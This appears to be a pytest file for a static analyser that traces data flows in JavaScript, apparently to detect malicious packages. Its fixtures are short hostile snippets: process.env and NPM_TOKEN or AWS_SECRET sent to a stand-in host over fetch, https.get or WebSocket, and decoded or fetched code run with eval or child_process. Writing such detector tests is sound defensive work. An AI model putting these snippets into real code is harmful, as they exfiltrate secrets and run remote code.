from __future__ import annotations

import pytest

from assay.javascript.flows import MAX_FLOWS, flows_of, slicer_of
from assay.javascript.syntax import parse
from assay.javascript.triage import Triage, triage
from assay.model.source import BehaviourKind, Flow


def flows(code: str) -> tuple[Flow, ...]:
    source = code.encode()
    return flows_of(slicer_of(parse("a.js", source)), triage(source))


def kinds(code: str) -> set[tuple[BehaviourKind, BehaviourKind]]:
    return {(flow.source.kind, flow.sink.kind) for flow in flows(code)}


def test_source_and_sink_are_told_with_their_places() -> None:
    (flow,) = flows(
        "const https = require('https');\nconst e = escape(process.env);\nhttps.get('https://a.invalid/' + e);"
    )
    assert (flow.source.kind, flow.source.location.line) == (BehaviourKind.ENVIRONMENT_DUMP, 2)
    assert (flow.sink.kind, str(flow.sink.location)) == (BehaviourKind.NETWORK, "a.js:3:1")
    assert flow.sink.detail == "https.get to https://a.invalid/"


@pytest.mark.parametrize(
    ("address", "shown"),
    [
        ("'https://a.invalid/x?y=1'", " to https://a.invalid/x"),
        ("`http://a.invalid:81/${x}`", " to http://a.invalid:81/"),
        ("'htt' + 'ps://a.invalid'", " to https://a.invalid"),
        ("unknown", ""),
        ("'/path'", ""),
    ],
)
def test_the_address_is_told_if_it_stands_in_the_call(address: str, shown: str) -> None:
    (flow,) = flows(f"fetch({address}, {{body: JSON.stringify(process.env)}});")
    assert flow.sink.detail == f"fetch{shown}"


@pytest.mark.parametrize(
    ("code", "pair"),
    [
        ("eval(atob(x))", (BehaviourKind.DECODE, BehaviourKind.DYNAMIC_CODE)),
        ("new Function(atob(x))()", (BehaviourKind.DECODE, BehaviourKind.DYNAMIC_CODE)),
        ("fetch(x).then(r => r.text()).then(t => eval(t))", (BehaviourKind.NETWORK, BehaviourKind.DYNAMIC_CODE)),
        ("require('child_process').exec(atob(x))", (BehaviourKind.DECODE, BehaviourKind.PROCESS)),
        (
            "const s = new WebSocket('wss://a.invalid'); s.send(JSON.stringify(process.env))",
            (BehaviourKind.ENVIRONMENT_DUMP, BehaviourKind.NETWORK),
        ),
    ],
)
def test_each_sink_takes_the_sources_that_matter_to_it(code: str, pair: tuple[BehaviourKind, BehaviourKind]) -> None:
    assert pair in kinds(code)


@pytest.mark.parametrize(
    "code",
    [
        "eval(process.env.NPM_TOKEN); atob(x);",
        "fetch(atob(x)); f(process.env);",
        "fetch('https://a.invalid', () => { f(process.env); });",
        "fetch('https://a.invalid').then(() => f(process.env));",
        "const fetch = (a) => a; eval(x); f(atob(y));",
        "require('child_process').exec('ls', {env: process.env}); atob(x);",
    ],
)
def test_what_is_not_sent_or_run_is_no_flow(code: str) -> None:
    assert flows(code) == ()


def test_flows_come_in_the_order_of_their_sinks_and_each_once() -> None:
    send = "fetch('https://a.invalid', {body: [process.env.NPM_TOKEN, process.env.AWS_SECRET]});\n"
    found = flows(send * 3)
    assert len(found) == len(set(found)) == 6
    lines = [flow.sink.location.line for flow in found]
    assert lines == sorted(lines)


def test_the_flows_of_one_file_are_bounded() -> None:
    found = flows("eval(atob(x));\n" * 3 * MAX_FLOWS)
    assert len(found) == MAX_FLOWS


def test_only_the_places_of_the_triage_are_looked_at() -> None:
    source = b"eval(atob(x));"
    assert flows_of(slicer_of(parse("a.js", source)), Triage()) == ()
    assert flows_of(slicer_of(parse("a.js", source)), Triage(runs=(source.index(b"("),)))


@pytest.mark.parametrize("place", [0, 5, 10_000])
def test_a_place_without_a_call_says_nothing(place: int) -> None:
    assert flows_of(slicer_of(parse("a.js", b"const a = 1;")), Triage(sends=(place,), runs=(place,))) == ()
